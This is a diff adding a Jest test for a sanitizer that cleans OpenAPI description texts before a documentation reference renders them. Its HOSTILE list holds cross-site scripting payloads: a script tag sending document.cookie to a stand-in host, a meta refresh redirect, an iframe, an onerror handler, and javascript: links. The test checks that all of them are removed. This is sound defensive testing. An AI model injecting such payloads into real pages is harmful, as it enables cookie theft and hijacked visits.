@@ -1,0 +1,63 @@
+/**
+ * @jest-environment node
+ *
+ * The OpenAPI description's texts held to an allow-list (../sanitize.ts): each hostile form a provider's
+ * description could carry comes out of the reference's renderers clean (the build's page check finds
+ * nothing), what the allow-list keeps stays, and a text with nothing to drop stays word for word.
+ */
+import { execFileSync } from 'node:child_process';
+import path from 'node:path';
+
+interface Result {
+  text: string;
+  dropped: string[];
+  themeHtml: string;
+  mdxHtml: string;
+  problems: string[];
+}
+
+function sanitized(texts: string[]): { results: Result[]; vendoredUnchanged: boolean } {
+  const out = execFileSync(process.execPath, [require.resolve('tsx/cli'), path.join(__dirname, 'sanitizeSample.mts')], {
+    input: JSON.stringify(texts),
+    cwd: path.resolve(__dirname, '../../..'),
+    encoding: 'utf8',
+  });
+  return JSON.parse(out);
+}
+
+const HOSTILE = [
+  'Searches. <script>$RX=0;location="//x.example/?"+document.cookie</script>',
+  'Searches. <meta http-equiv="refresh" content="0;url=https://x.example">',
+  'Searches. <iframe src="https://x.example"></iframe>',
+  'Searches. <img src="logo.png" onerror="location=\'//x.example\'">',
+  'Searches. <a href="javascript:location=\'//x.example\'">Docs</a> and [more](javascript:alert(1)).',
+  'Searches. <svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+];
+const SAFE = ['Uses `page` and **bold** with <b>inline</b> HTML.', '| a | b |\n| - | - |\n| 1 | 2 |'];
+
+const { results, vendoredUnchanged } = sanitized([...HOSTILE, ...SAFE]);
+
+describe('sanitizeContract and the reference’s renderers', () => {
+  it.each(HOSTILE.map((text, n) => [text, results[n]] as const))(
+    'a description holding %j comes out clean, saying what it dropped',
+    (_text, result) => {
+      expect(result.problems).toEqual([]);
+      expect(result.dropped.length).toBeGreaterThan(0);
+      expect(result.text).toMatch(/^Searches\./);
+      for (const html of [result.themeHtml, result.mdxHtml])
+        expect(html).not.toMatch(/<script|<iframe|<meta|onerror|javascript:/i);
+    },
+  );
+
+  it('keeps what the allow-list allows: the link text, the image', () => {
+    expect(results[3].text).toContain('![](logo.png)');
+    expect(results[4].themeHtml).toContain('Docs');
+  });
+
+  it('leaves a text with nothing to drop word for word, and the vendored contract as it is', () => {
+    expect(results.slice(HOSTILE.length).map((result) => [result.text, result.dropped])).toEqual(
+      SAFE.map((text) => [text, []]),
+    );
+    expect(vendoredUnchanged).toBe(true);
+  });
+});
